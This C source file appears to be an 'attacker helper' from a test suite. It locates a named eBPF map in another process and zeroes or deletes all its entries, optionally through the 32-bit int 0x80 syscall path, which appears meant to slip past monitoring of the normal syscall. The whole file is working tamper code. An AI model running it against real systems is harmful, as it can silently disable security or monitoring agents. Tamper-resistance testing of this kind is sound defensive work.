/* Attacker helper: bpf_tamper PID MAP zero|delete [int80]
 * As another root process, find the map named MAP among the bpf fds of
 * process PID (through /proc/PID/fdinfo map_id and BPF_MAP_GET_FD_BY_ID),
 * then overwrite every entry with zeros (zero) or delete every entry
 * (delete) through bpf(2): the 64-bit entry, or the 32-bit one (int 0x80)
 * with int80. Every buffer the kernel reads lives below 4 GiB so the ia32
 * entry can address it. Prints how many entries it changed; exit 1 if
 * none. */
#define _GNU_SOURCE
#include <dirent.h>
#include <linux/bpf.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#define IA32_BPF 357

static int int80;

struct low {
	union bpf_attr attr;
	struct bpf_map_info info;
	char key[512], next[512], value[1 << 16];
};
static struct low *lo;

static long sys_bpf(int cmd)
{
	long ret;

	if (!int80)
		return syscall(__NR_bpf, cmd, &lo->attr, sizeof(lo->attr));
	asm volatile("int $0x80" : "=a"(ret)
		     : "a"(IA32_BPF), "b"(cmd), "c"((unsigned)(unsigned long)&lo->attr),
		       "d"((unsigned)sizeof(lo->attr))
		     : "memory", "r8", "r9", "r10", "r11");
	return ret < 0 && ret > -4096 ? -1 : ret;
}

#define PTR(p) ((__u64)(unsigned long)(p))

static int map_fd_by_id(__u32 id)
{
	memset(&lo->attr, 0, sizeof(lo->attr));
	lo->attr.map_id = id;
	return sys_bpf(BPF_MAP_GET_FD_BY_ID);
}

static int map_info(int fd)
{
	memset(&lo->attr, 0, sizeof(lo->attr));
	memset(&lo->info, 0, sizeof(lo->info));
	lo->attr.info.bpf_fd = fd;
	lo->attr.info.info_len = sizeof(lo->info);
	lo->attr.info.info = PTR(&lo->info);
	return sys_bpf(BPF_OBJ_GET_INFO_BY_FD);
}

static long elem(int cmd, int fd, void *key, void *value_or_next)
{
	memset(&lo->attr, 0, sizeof(lo->attr));
	lo->attr.map_fd = fd;
	lo->attr.key = PTR(key);
	lo->attr.value = PTR(value_or_next);	/* next_key shares the slot */
	lo->attr.flags = cmd == BPF_MAP_UPDATE_ELEM ? BPF_ANY : 0;
	return sys_bpf(cmd);
}

/* The fd of pid's map named name, opened by id. */
static int find_map(const char *pid, const char *name)
{
	char dir[64], path[330], line[128];
	struct dirent *e;
	DIR *d;
	int found = -1;

	snprintf(dir, sizeof(dir), "/proc/%s/fdinfo", pid);
	d = opendir(dir);
	while (d && found < 0 && (e = readdir(d))) {
		unsigned id = 0;
		FILE *f;

		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		f = fopen(path, "r");
		while (f && fgets(line, sizeof(line), f))
			sscanf(line, "map_id: %u", &id);
		if (f)
			fclose(f);
		int fd = id ? map_fd_by_id(id) : -1;

		if (fd >= 0 && !map_info(fd) && !strcmp(lo->info.name, name))
			found = fd;
		else if (fd >= 0)
			close(fd);
	}
	if (d)
		closedir(d);
	return found;
}

int main(int argc, char **argv)
{
	int fd, n = 0;

	if (argc < 4) {
		fprintf(stderr, "usage: bpf_tamper PID MAP zero|delete [int80]\n");
		return 2;
	}
	int80 = argc > 4 && !strcmp(argv[4], "int80");
	lo = mmap(NULL, sizeof(*lo), PROT_READ | PROT_WRITE,
		  MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	if (lo == MAP_FAILED)
		return perror("mmap"), 2;
	fd = find_map(argv[1], argv[2]);
	if (fd < 0)
		return fprintf(stderr, "no map %s in process %s\n", argv[2], argv[1]), 1;
	if (lo->info.key_size > sizeof(lo->key) || lo->info.value_size > sizeof(lo->value))
		return fprintf(stderr, "%s: entries too large\n", argv[2]), 2;
	if (!strcmp(argv[3], "delete")) {
		/* always the first key: the walk restarts after each delete */
		while (elem(BPF_MAP_GET_NEXT_KEY, fd, NULL, lo->next) == 0 &&
		       elem(BPF_MAP_DELETE_ELEM, fd, lo->next, NULL) == 0)
			n++;
	} else {
		void *prev = NULL;

		memset(lo->value, 0, sizeof(lo->value));
		while (elem(BPF_MAP_GET_NEXT_KEY, fd, prev, lo->next) == 0) {
			memcpy(lo->key, lo->next, lo->info.key_size);
			prev = lo->key;
			n += elem(BPF_MAP_UPDATE_ELEM, fd, lo->key, lo->value) == 0;
		}
	}
	printf("%s %s: %d entries via %s\n", argv[2], argv[3], n,
	       int80 ? "int 0x80" : "syscall");
	return n ? 0 : 1;
}
